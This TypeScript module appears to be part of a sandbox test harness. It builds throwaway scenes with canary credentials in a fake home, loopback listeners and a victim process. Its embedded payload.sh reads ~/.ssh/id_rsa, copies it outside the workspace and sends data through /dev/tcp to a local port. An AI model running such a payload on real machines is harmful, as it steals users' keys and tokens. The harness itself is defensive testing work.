import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import {
  chmodSync,
  closeSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { delimiter, dirname, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { type Listeners, openListeners } from './listeners.ts'

/**
 * A machine in small for one line, all of it below one scratch folder: a home with credentials, a workspace in it, a
 * folder outside, listeners on loopback and one process of the person. Every secret in it is the same canary.
 */
export interface Scene {
  readonly id: string
  readonly home: string
  readonly work: string
  readonly outside: string
  /** Paths in the shared folders of this machine that belong to this scene. */
  readonly shared: readonly string[]
  readonly secret: string
  /** The environment of the person. */
  readonly env: { readonly HOME: string; readonly PATH: string }
  readonly victim: ChildProcess
  readonly listeners: Listeners
  /** A text with the paths, ports and names of this scene. */
  fill(text: string): string
  close(): Promise<void>
}

/** A folder where scenes are built; not one for temporary files, which a sandbox replaces anyway, where that is possible. */
export function scratchFolder(prefix: string): string {
  const beside = process.env.SCENES ?? fileURLToPath(new URL('../../node_modules/.cache/', import.meta.url))
  const parent = beside.startsWith('/tmp/') || beside.startsWith(tmpdir()) ? tmpdir() : beside
  mkdirSync(parent, { recursive: true })
  return realpathSync(mkdtempSync(join(parent, prefix)))
}

export async function createScene(): Promise<Scene> {
  const folder = scratchFolder('scene-')
  const [home, outside] = [join(folder, 'home'), join(folder, 'outside')]
  const work = join(home, 'work')
  const id = `libero-scene-${randomBytes(6).toString('hex')}`
  const secret = `canary-${randomBytes(8).toString('hex')}`
  const shared = [`/tmp/${id}`, `/var/tmp/${id}`, `/dev/shm/${id}`]
  layOutHome(home, secret)
  layOutOutside(outside, secret)
  layOutWorkspace(work, { home, outside })

  const listeners = await openListeners({ id, paths: [join(outside, 'listener'), join(work, 'listener')] })
  const victim = startVictim({ id, outside, secret })
  const values: Readonly<Record<string, string>> = {
    ...{ HOME: home, WORK: work, OUT: outside, SECRET: secret, ID: id, PID: String(victim.pid) },
    ...{ TMP: shared[0]!, VARTMP: shared[1]!, NUMBER: String(Number.parseInt(id.slice(-12), 16)) },
    KEY: String(Number.parseInt(id.slice(-7), 16)),
    ...{ PORT: String(listeners.port), UDP: String(listeners.udpPort), SIX: String(listeners.sixPort) },
  }
  const fill = (text: string): string => text.replace(/@([A-Z]+)/g, (whole, name: string) => values[name] ?? whole)
  writeFileSync(join(work, 'payload.sh'), fill(payload))
  chmodSync(join(work, 'payload.sh'), 0o755)
  return {
    ...{ id, home, work, outside, shared, secret, victim, listeners, fill },
    env: { HOME: home, PATH: pathOf(home, work) },
    async close() {
      victim.kill('SIGKILL')
      await listeners.close()
      for (const path of [folder, ...shared]) rmSync(path, { recursive: true, force: true })
    },
  }
}

/** Runs a script of bash in a scene with all rights of the person, as a part of the story; it may fail. */
export function runAsPerson(scene: Scene, script: string): { status: number | null; output: string } {
  const given = ['--noprofile', '--norc', '-c', scene.fill(script)]
  const { status, stdout, stderr } = spawnSync('/bin/bash', given, {
    cwd: scene.work,
    env: scene.env,
    encoding: 'utf8',
    timeout: 20_000,
  })
  return { status, output: `${stdout}${stderr}` }
}

/** Shows credentials, copies them to the folder outside, and sends them to a listener. It ends well, so that what runs it goes on. */
const payload = `#!/bin/bash
cat '@HOME/.ssh/id_rsa' '@OUT/secret.txt' 2>/dev/null
{ cat '@HOME/.ssh/id_rsa' > '@OUT/taken'; } 2>/dev/null
{ echo canary > /dev/tcp/127.0.0.1/@PORT; } 2>/dev/null
exit 0
`

function layOutHome(home: string, secret: string): void {
  const files: Readonly<Record<string, string>> = {
    '.ssh/id_rsa': secret,
    '.aws/credentials': secret,
    '.netrc': `machine localhost password ${secret}`,
    '.npmrc': `//localhost/:_authToken=${secret}`,
    '.config/gh/hosts.yml': secret,
    '.docker/config.json': secret,
    '.bash_history': secret,
    '.cargo/credentials.toml': secret,
    '.local/share/keyrings/login.keyring': secret,
    'notes/diary.txt': secret,
    '.bashrc': '# a startup file',
    '.profile': '# a startup file',
    '.gitconfig': '[user]\nname = a\nemail = a@localhost\n[init]\ndefaultBranch = main',
    '.cargo/bin/own': '#!/bin/sh',
    '.local/bin/own': '#!/bin/sh',
    'bin/own': '#!/bin/sh',
  }
  writeAll(home, files)
}

function layOutOutside(outside: string, secret: string): void {
  writeAll(outside, {
    'secret.txt': secret,
    'data.json': JSON.stringify(secret),
    'keep.txt': 'untouched',
    'deep/x.txt': 'deep',
  })
}

/** A repository with two commits, and the places of programs that PATH names. */
function layOutWorkspace(work: string, { home, outside }: { home: string; outside: string }): void {
  pattern ??= makePattern()
  cpSync(pattern, work, { recursive: true })
  for (const folder of [home, outside]) chmodSync(folder, 0o755)
}

let pattern: string | undefined

/** Folders of programs that are there in a sandbox too: none of the real home, which is not the home of a scene. */
export const machinePath: string = (process.env.PATH ?? '')
  .split(delimiter)
  .filter((folder) => !folder.includes('node_modules') && !folder.startsWith(homedir()))
  .join(delimiter)

function makePattern(): string {
  const folder = scratchFolder('pattern-')
  process.once('exit', () => rmSync(folder, { recursive: true, force: true }))
  writeAll(folder, { 'notes.txt': 'hello', 'docs/b.md': 'words', 'src/a.ts': 'export const a = 1' })
  const script =
    'git init -q --template= . && git add -A && git commit -qm one && echo x > second && git add -A && git commit -qm two'
  const who = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a' }
  const env = { ...who, PATH: process.env.PATH, HOME: folder }
  const { status, stderr } = spawnSync('/bin/sh', ['-c', script], { cwd: folder, env, encoding: 'utf8' })
  if (status !== 0) throw new Error(`git could not make the repository of the scenes: ${stderr}`)
  return folder
}

function writeAll(folder: string, files: Readonly<Record<string, string>>): void {
  for (const [name, content] of Object.entries(files)) {
    const path = join(folder, name)
    mkdirSync(dirname(path), { recursive: true })
    writeFileSync(path, `${content}\n`, { mode: content.startsWith('#!') ? 0o755 : 0o644 })
  }
}

/** As people have it: own programs of the home first, and the workspace's, as `npx` adds them. */
function pathOf(home: string, work: string): string {
  const own = ['.cargo/bin', '.local/bin', 'bin'].map((name) => join(home, name))
  return [join(work, 'node_modules/.bin'), ...own, machinePath].join(delimiter)
}

/** A process with the secret in its arguments, its environment, its folder and an open file. */
function startVictim({ id, outside, secret }: { id: string; outside: string; secret: string }): ChildProcess {
  const input = openSync(join(outside, 'secret.txt'), 'r')
  const victim = spawn('/bin/sleep', ['300'], {
    argv0: `${id} ${secret}`,
    cwd: outside,
    env: { PATH: process.env.PATH, CANARY: secret },
    stdio: [input, 'ignore', 'ignore'],
  })
  closeSync(input)
  victim.unref()
  return victim
}
